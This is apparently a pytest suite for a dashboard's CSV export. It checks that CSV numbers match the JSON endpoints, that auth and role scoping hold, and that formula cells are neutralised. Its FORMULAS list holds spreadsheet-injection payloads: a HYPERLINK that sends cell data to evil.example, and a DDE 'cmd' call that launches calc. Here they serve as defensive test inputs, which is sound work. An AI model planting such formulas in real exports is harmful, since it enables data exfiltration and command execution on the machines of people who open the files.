"""CSV export over real HTTP: the same numbers as the JSON endpoints, the same auth and scoping."""

from __future__ import annotations

import csv
import datetime as dt
import io

import httpx
import pytest

from agentdash.demo import GeneratorConfig, generate, send

END = dt.date(2026, 3, 31)
FROM = END - dt.timedelta(days=20)
CONFIG = GeneratorConfig(days=21, scale=0.2, end=END, org_id="acme", people=20, teams=3)
OTHER_ORG = GeneratorConfig(days=5, scale=0.1, end=END, org_id="globex", people=5, teams=1, seed=7)


@pytest.fixture(scope="module")
def loaded(tmp_path_factory):
    from conftest import ServerProcess, free_port

    events = generate(CONFIG) + generate(OTHER_ORG)
    server = ServerProcess(tmp_path_factory.mktemp("export") / "data", free_port(), free_port()).start()
    try:
        assert send(f"{server.ingest_url}/v1/events", events, batch_size=500, token=server.ingest_key).rejected == 0
        server.wait_projected()
        yield server, events
    finally:
        server.stop()


def get(server, path: str, token: str | None, **params) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.get(f"{server.url}{path}", params=params, headers=headers, timeout=30)


def parse(answer: httpx.Response) -> list[dict]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.text)))


def cell(text: str):
    """A CSV cell back to the JSON value: empty is null, numbers keep every digit."""
    if text == "":
        return None
    try:
        return int(text)
    except ValueError:
        try:
            return float(text)
        except ValueError:
            return text


def same_numbers(csv_row: dict, json_row: dict, first: str) -> None:
    failures = {f["category"]: f["runs"] for f in json_row.pop("failures_by_category")}
    flattened = {
        k.removeprefix("failures_by_category."): int(v)
        for k, v in csv_row.items()
        if k.startswith("failures_by_category.")
    }
    assert {c: n for c, n in flattened.items() if n} == failures
    scalars = {k: cell(v) for k, v in csv_row.items() if not k.startswith("failures_by_category.") and k != first}
    expected = {k: v for k, v in json_row.items() if k != first}
    assert scalars == expected  # exact: floats parse back bit for bit
    for k, v in scalars.items():
        assert type(v) is type(expected[k]) or expected[k] is None, k


def some(events, field: str, index: int) -> str:
    return sorted({e[field] for e in events if e["org_id"] == "acme" and e.get(field)})[index]


@pytest.mark.parametrize("scope", ["all", "team", "user", "empty"])
def test_metrics_csv_equals_the_json_series(loaded, scope):
    server, events = loaded
    params = {"from": str(FROM), "to": str(END)}
    if scope == "team":
        params["team_id"] = some(events, "team_id", 1)
    elif scope == "user":
        params["user_id"] = some(events, "user_id", 2)
    elif scope == "empty":
        params = {"from": "2020-01-01", "to": "2020-01-03"}
    token = server.token("acme")
    rows = parse(get(server, "/api/v1/orgs/acme/metrics.csv", token, **params))
    series = get(server, "/api/v1/orgs/acme/metrics", token, **params).json()["series"]
    assert [r["date"] for r in rows] == [d["date"] for d in series]
    for row, day in zip(rows, series, strict=True):
        same_numbers(row, day, "date")
    if scope == "all":
        assert sum(int(r["runs"]) for r in rows) > 0
        assert sum(int(r["cache_read_tokens"]) for r in rows) > 0 and sum(int(r["cache_write_tokens"]) for r in rows)
        assert any(len(r["runs_per_session"]) > 10 for r in rows)  # full precision, not rounded for people


@pytest.mark.parametrize("dimension, limit", [("team", None), ("user", 5), ("model", None), ("repo", None)])
def test_breakdown_csv_equals_the_json_rows(loaded, dimension, limit):
    server, _ = loaded
    token = server.token("acme")
    params = {"from": str(FROM), "to": str(END)} | ({"limit": limit} if limit else {})
    rows = parse(get(server, f"/api/v1/orgs/acme/breakdown/{dimension}.csv", token, **params))
    expected = get(server, f"/api/v1/orgs/acme/breakdown/{dimension}", token, **params).json()
    assert [cell(r["key"]) for r in rows] == [e["key"] for e in expected]
    assert len(rows) == (limit or len(expected)) and rows
    for row, json_row in zip(rows, expected, strict=True):
        same_numbers(row, json_row, "key")


def test_filename_names_org_what_and_range(loaded):
    server, _ = loaded
    token = server.token("acme")
    answer = get(server, "/api/v1/orgs/acme/metrics.csv", token, **{"from": str(FROM), "to": str(END)})
    assert answer.headers["content-disposition"] == f'attachment; filename="agentdash-acme-metrics-{FROM}-{END}.csv"'
    answer = get(server, "/api/v1/orgs/acme/breakdown/model.csv", token, to=str(END))
    start = END - dt.timedelta(days=29)  # the API's default range: 30 days ending `to`
    assert (
        answer.headers["content-disposition"]
        == f'attachment; filename="agentdash-acme-breakdown-model-{start}-{END}.csv"'
    )


def test_csv_is_guarded_like_the_json(loaded):
    server, events = loaded
    params = {"from": str(FROM), "to": str(END)}
    for path in ("/api/v1/orgs/acme/metrics.csv", "/api/v1/orgs/acme/breakdown/team.csv"):
        assert get(server, path, None, **params).status_code == 401
        assert get(server, path, "not-a-jwt", **params).status_code == 401
        other = get(server, path.replace("acme", "globex"), server.token("acme"), **params)
        assert other.status_code == 404 and set(other.json()) == {"error"}
    user = some(events, "user_id", 0)
    member = server.token("acme", role="member", user=user)
    assert get(server, "/api/v1/orgs/acme/metrics.csv", member, user_id="someone-else", **params).status_code == 403
    assert (
        get(server, "/api/v1/orgs/acme/breakdown/repo.csv", member, user_id="someone-else", **params).status_code == 403
    )
    manager = server.token("acme", role="manager", teams=some(events, "team_id", 0))
    assert (
        get(server, "/api/v1/orgs/acme/metrics.csv", manager, team_id=some(events, "team_id", 1), **params).status_code
        == 403
    )
    assert get(server, "/api/v1/orgs/acme/breakdown/colour.csv", server.token("acme"), **params).status_code == 400
    assert (
        get(server, "/api/v1/orgs/acme/metrics.csv", server.token("acme"), **{"from": "yesterday"}).status_code == 400
    )


def test_a_member_downloads_only_their_own_numbers(loaded):
    server, events = loaded
    user = some(events, "user_id", 0)
    member = server.token("acme", role="member", user=user)
    params = {"from": str(FROM), "to": str(END)}
    rows = parse(get(server, "/api/v1/orgs/acme/metrics.csv", member, **params))
    own = get(server, "/api/v1/orgs/acme/metrics", server.token("acme"), user_id=user, **params).json()["series"]
    for row, day in zip(rows, own, strict=True):
        same_numbers(row, day, "date")
    users = parse(get(server, "/api/v1/orgs/acme/breakdown/user.csv", member, **params))
    assert [r["key"] for r in users] in ([user], [])


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    from agentdash.web.csv_export import spreadsheet_safe

    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["alice", "1+1", "a=b", "", None, " =padded"])
def test_other_cells_stay_as_they_are(text):
    from agentdash.web.csv_export import spreadsheet_safe

    assert spreadsheet_safe(text) == text


def _run_events(org: str, user: str, model: str, day: str, n: int) -> list[dict]:
    events = []
    for i in range(n):
        run = {"org_id": org, "user_id": user, "session_id": f"s-{user}-{i}", "run_id": f"r-{user}-{i}"}
        events += [
            {**run, "id": f"{user}-{i}-q", "type": "run.queued", "occurred_at": f"{day}T10:00:00Z"},
            {
                **run,
                "id": f"{user}-{i}-s",
                "type": "run.started",
                "occurred_at": f"{day}T10:00:05Z",
                "attributes": {"model": model},
            },  # fmt: skip
            {
                **run,
                "id": f"{user}-{i}-f",
                "type": "run.finished",
                "occurred_at": f"{day}T10:01:00Z",
                "status": "succeeded",
                "cost_usd": 0.5,
            },  # fmt: skip
        ]
    return events


def test_breakdown_csv_neutralises_producer_formulas(server):
    """A user id or model that is a formula comes back as text in every CSV, never as a formula."""
    day = "2026-03-10"
    evil_user, evil_model = FORMULAS[0], FORMULAS[1]
    events = _run_events("acme", evil_user, evil_model, day, 2) + _run_events("acme", "bob", "gpt-5", day, 1)
    answer = httpx.post(f"{server.ingest_url}/v1/events", json={"events": events}, headers=server.ingest_headers,
                        timeout=30)  # fmt: skip
    assert answer.status_code == 200 and answer.json()["accepted"] == len(events), answer.text
    server.wait_projected()
    token = server.token("acme")
    users = parse(get(server, "/api/v1/orgs/acme/breakdown/user.csv", token, **{"from": day, "to": day}))
    assert {row["key"] for row in users} == {"'" + evil_user, "bob"}
    models = parse(get(server, "/api/v1/orgs/acme/breakdown/model.csv", token, **{"from": day, "to": day}))
    assert {row["key"] for row in models} == {"'" + evil_model, "gpt-5"}
    # The JSON keeps the exact key: the apostrophe is a spreadsheet's concern, not the data's.
    json_keys = {
        r["key"] for r in get(server, "/api/v1/orgs/acme/breakdown/user", token, **{"from": day, "to": day}).json()
    }
    assert json_keys == {evil_user, "bob"}
